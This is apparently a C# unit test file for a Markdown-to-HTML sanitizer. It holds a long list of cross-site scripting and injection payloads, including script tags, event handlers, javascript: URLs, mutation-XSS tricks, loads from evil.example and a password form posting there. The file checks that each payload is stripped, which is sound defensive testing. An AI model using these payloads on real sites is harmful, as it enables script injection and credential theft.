using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Stagedoor.Docs.Markdown;

namespace Stagedoor.Docs.Tests.Markdown;

/// <summary>Attempts to get something into a page that runs, loads, hides or overlays.</summary>
public sealed class CleaningTests
{
    private static readonly MarkdownRenderer Renderer = new(Tables.Load());

    private static readonly HashSet<string> Elements = new(StringComparer.Ordinal)
    {
        "a", "abbr", "address", "article", "aside", "audio", "b", "bdi", "bdo", "blockquote", "br", "caption", "cite", "code", "col", "colgroup", "dd", "del", "details", "dfn", "div", "dl", "dt", "em",
        "figcaption", "figure", "footer", "h1", "h2", "h3", "h4", "h5", "h6", "header", "hr", "i", "img", "input", "ins", "kbd", "label", "li", "mark", "ol", "p", "pre", "q", "rp", "rt", "ruby", "s", "samp",
        "section", "small", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "time", "tr", "u", "ul", "var", "video", "wbr",
    };

    private static readonly HashSet<string> Attributes = new(StringComparer.Ordinal)
    {
        "align", "alt", "aria-hidden", "aria-label", "checked", "class", "colspan", "controls", "data-diagram", "data-icon", "data-line", "datetime", "dir", "disabled", "download", "for", "height", "href", "id",
        "lang", "loading", "name", "open", "preload", "rel", "reversed", "rowspan", "scope", "span", "src", "start", "target", "title", "type", "value", "width",
    };

    public static TheoryData<string> Attacks =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script>alert(1)",
        "text <script/x>alert(1)</script\n> text",
        "<img src=x onerror=alert(1)>",
        "<img src=x OnErRoR = 'alert(1)'>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=\"x\"onerror=\"alert(1)\">",
        "<img src='x' srcset='javascript:alert(1) 1x'>",
        "<body onload=alert(1)>",
        "<div onmouseover=alert(1) markdown=1>*x*</div>",
        "<p markdown=1 style=\"position:fixed;inset:0\">x</p>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java&#x0A;script:alert(1)\">x</a>",
        "<a href=\" \u0001javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
        "<a href=vbscript:msgbox(1)>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
        "[x](javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](&#106;avascript:alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](\\javascript:alert(1))",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:x \"t\")",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        "![x\" onerror=\"alert(1)](y)",
        "[x](y \"t\\\" onclick=\\\"alert(1)\")",
        "<http://a.b/\"onclick=alert(1)>",
        "<javascript:alert(1)>",
        "[x](y){ onclick=alert(1) style=\"color:red\" }",
        "[x](y){: href=javascript:alert(1) }",
        "![x](y){ onerror=\"alert(1)\" srcset=\"a 1x\" src=\"javascript:alert(1)\" }",
        "# Title { onclick=alert(1) #id .x }",
        "*x*{ a\"><script>alert(1)</script> }",
        "*x*{ class='\"><img src=x onerror=alert(1)>' }",
        "<svg onload=alert(1)><script>alert(2)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import url(//evil.example/x.css); body{display:none}</style>",
        "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>Sign in</button></form>",
        "<input type=image src=x onerror=alert(1)> <input type=text autofocus onfocus=alert(1)> <input type=radio name=x id=y>",
        "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)><applet code=x></applet>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
        "<xmp><p title=\"</xmp><script>alert(1)</script>\"></xmp>",
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml-stylesheet href=javascript:alert(1)?><? <img src=x onerror=alert(1)> ?>",
        "<a href=\"x\" <img src=x onerror=alert(1)>",
        "<a title='\"><img src=x onerror=alert(1)>' href=y>x</a>",
        "<b title=\"`<img src=x onerror=alert(1)>`\">x</b>",
        "`<img src=x onerror=alert(1)>` <code><img src=x onerror=alert(1)></code>",
        "```html \"><script>alert(1)</script>\n<script>alert(1)</script>\n```",
        "``` { .python title='\"><img src=x onerror=alert(1)>' data-x='\"><script>' onclick=alert(1) }\nx\n```",
        "!!! note \"<img src=x onerror=alert(1)>\"\n    x",
        "??? \"><script>alert(1)</script>\"\n    x",
        "=== \"<script>alert(1)</script>\"\n    x",
        "[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: x",
        "[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: x",
        "HTML\n\n*[HTML]: \"><script>alert(1)</script>",
        "$</span><script>alert(1)</script>$",
        "++\"<img src=x onerror=alert(1)>\"++",
        "{>>\"><img src=x onerror=alert(1)><<} {++<script>alert(1)</script>++}",
        "| a { onclick=alert(1) } |\n|---|\n| <td onclick=alert(1)> |",
        "- [ ] <input type=checkbox onclick=alert(1)>",
        "<table><tr><td background=javascript:alert(1) style=x:expression(alert(1))>x</td></tr></table>",
        "<video src=x onerror=alert(1) poster=javascript:alert(1)><source src=javascript:alert(1)></video>",
        "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
        "<a href=//evil.example target=_blank ping=//evil.example/p>x</a>",
        "<img src=\"\\\\evil.example\\x.png\"> <img src=file:///etc/passwd>",
        "<marquee onstart=alert(1)>x</marquee><isindex action=javascript:alert(1)>",
        "<x onclick=alert(1)>y</x><custom-element is=z>y</custom-element>",
        "</div></main></body></html><script>alert(1)</script>",
        "<div class=\"sd-dialog overlay toast\" id=\"search\">x</div>",
        "<a name=cookie></a><img name=getElementById id=body src=x><form name=location></form>",
        "\u0002\ue101\ue000\u0003<script>alert(1)</script>\u0002\ue104\ue000\u0003",
        "<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
        "<label for=search>x</label><label for=__tabbed_1_1>y</label>",
        "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style></p></svg>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Nothing_that_runs_or_loads_gets_through(string attack)
    {
        foreach (var text in new[] { attack, $"text {attack} text", $"<div markdown=\"1\">\n{attack}\n</div>", $"* item\n\n    {attack.Replace("\n", "\n    ", StringComparison.Ordinal)}\n", $"<div>\n{attack}\n</div>" })
        {
            var html = Renderer.Render(text, Everything()).Html;

            ShouldBeHarmless(html, text);
            ShouldBeHarmless(Parse(Parse(html).InnerHtml).InnerHtml, text);
        }
    }

    [Fact]
    public void Text_around_what_is_removed_stays()
    {
        var page = Renderer.Render("before <script>alert(1)</script> after <svg> rest **bold**\n\nnext <style>", Everything());

        page.Html.ShouldContain("before");
        page.Html.ShouldContain("after");
        page.Html.ShouldContain("<strong>bold</strong>");
        page.Html.ShouldContain("next");
    }

    [Fact]
    public void An_id_of_the_page_around_becomes_another_and_links_to_it_follow()
    {
        var page = Renderer.Render("# Search\n\n[to it](#search) <b id=search>twice</b>", Everything() with { IsReserved = id => id == "search" });

        page.Html.ShouldContain("<h1 id=\"doc-search\">");
        page.Html.ShouldContain("href=\"#doc-search\"");
        page.Html.ShouldContain("<b>twice</b>");
    }

    [Fact]
    public void Links_that_are_rewritten_are_judged_after_that()
    {
        var page = Renderer.Render("[a](entity:component/x) [b](other.md) [c](gone.md) ![d](pic.png)", Everything() with
        {
            Rewrite = found => found.Address switch
            {
                "entity:component/x" => "/catalog/default/component/x",
                "other.md" => "javascript:alert(1)",
                "gone.md" => null,
                _ => "/files/" + found.Address,
            },
        });

        page.Html.ShouldBe("<p><a href=\"/catalog/default/component/x\">a</a> <a>b</a> <a>c</a> <img src=\"/files/pic.png\" alt=\"d\" loading=\"lazy\"></p>\n");
    }

    [Fact]
    public void Links_to_elsewhere_tell_nothing_about_where_they_come_from()
    {
        var page = Renderer.Render("[a](https://example.com) [b](page.md){ target=_blank }", Everything());

        page.Html.ShouldBe("<p><a href=\"https://example.com\" rel=\"noopener noreferrer nofollow\">a</a> <a href=\"page.md\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">b</a></p>\n");
    }

    internal static MarkdownOptions Everything() => new()
    {
        Extensions = MarkdownExtensions.TechDocs.With(
        [
            "pymdownx.arithmatex", "pymdownx.keys", "nl2br",
            new Dictionary<string, object?> { ["pymdownx.magiclink"] = new Dictionary<string, object?> { ["repo_url_shorthand"] = "true", ["user"] = "acme", ["repo"] = "tool" } },
        ]),
    };

    internal static void ShouldBeHarmless(string html, string source)
    {
        var body = Parse(html);
        foreach (var element in body.QuerySelectorAll("*"))
        {
            Elements.ShouldContain(element.LocalName, source);
            element.NamespaceUri.ShouldBe("http://www.w3.org/1999/xhtml", source);
            foreach (var attribute in element.Attributes)
            {
                Attributes.ShouldContain(attribute.Name, source);
                if (attribute.Name is "href" or "src") Scheme(attribute.Value).ShouldBeOneOf(["http", "https", "mailto", "relative"], source);
            }

            if (element.LocalName == "input") element.GetAttribute("type").ShouldBeOneOf("checkbox", "radio");
            if (element.LocalName == "input" && element.GetAttribute("type") == "checkbox") element.HasAttribute("disabled").ShouldBeTrue();
        }

        body.QuerySelectorAll("[class]").SelectMany(element => element.ClassList).ShouldNotContain("overlay");
    }

    private static string Scheme(string address)
    {
        var start = string.Concat(address.Where(letter => letter > ' ')).Split('/', '?', '#')[0];
        var colon = start.IndexOf(':', StringComparison.Ordinal);
        return colon < 0 ? "relative" : start[..colon].ToLowerInvariant();
    }

    private static IElement Parse(string html) => new HtmlParser().ParseDocument("<!doctype html><body>" + html).Body!;
}
